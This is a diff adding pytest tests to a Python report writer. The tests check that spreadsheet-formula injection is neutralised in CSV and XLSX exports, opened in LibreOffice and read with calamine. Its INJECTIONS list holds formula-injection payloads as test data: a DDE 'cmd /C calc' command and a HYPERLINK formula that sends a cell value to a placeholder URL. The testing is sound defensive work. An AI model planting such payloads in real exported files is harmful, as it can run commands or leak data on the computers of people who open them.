@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import zipfile
 from datetime import date
 
 import pytest
 from openpyxl import load_workbook
+from python_calamine import CalamineWorkbook
 
 import kkod.reports as reports
 from kkod.reports import Report, UnknownReportFormat, write_report
+from kkod.table.sheet_xml import formula_cells
 
 ROWS = [
     (2, "T-1", "NINCS_TALALAT", "Nincs találat.", "Ellenőrizze."),
@@ -54,3 +57,37 @@ def test_an_unknown_format_is_refused_before_anything_is_written(tmp_path):
 
 def _cells_of_first_sheet(path):
     return [[c.value for c in row] for row in load_workbook(path).worksheets[0].iter_rows()]
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://pelda.hu/?"&D2;"Kattintson ide")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_fields_that_look_like_formulas_stay_text_in_libreoffice(tmp_path):
+    from tests.libreoffice import csv_as_workbook, formulas_in
+
+    rows = [[i, text, "Kovács János"] for i, text in enumerate(INJECTIONS, start=2)]
+    report = write_report(tmp_path / "r.csv", Report("Jelentés", ["Sor", "Érték", "Név"], rows))
+    raw = report.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in raw and "'+cmd" in raw and "'-2+3" in raw and "'@SUM" in raw
+
+    opened = csv_as_workbook(report, tmp_path)
+    assert formulas_in(opened) == frozenset()
+    grid = CalamineWorkbook.from_path(opened).get_sheet_by_index(0).to_python()
+    # (LibreOffice reads a CR inside a quoted field as a line break)
+    assert [row[1] for row in grid[1:]] == [f"'{t}".replace("\r", "\n") for t in INJECTIONS]
+
+
+def test_xlsx_reports_keep_formula_looking_text_as_text(tmp_path):
+    rows = [[i, text] for i, text in enumerate(INJECTIONS, start=2)]
+    report = write_report(tmp_path / "r.xlsx", Report("Jelentés", ["Sor", "Érték"], rows))
+    with zipfile.ZipFile(report) as archive:
+        assert formula_cells(archive.read("xl/worksheets/sheet1.xml")) == frozenset()
+    grid = CalamineWorkbook.from_path(report).get_sheet_by_index(0).to_python()
+    assert [row[1] for row in grid[1:]] == INJECTIONS
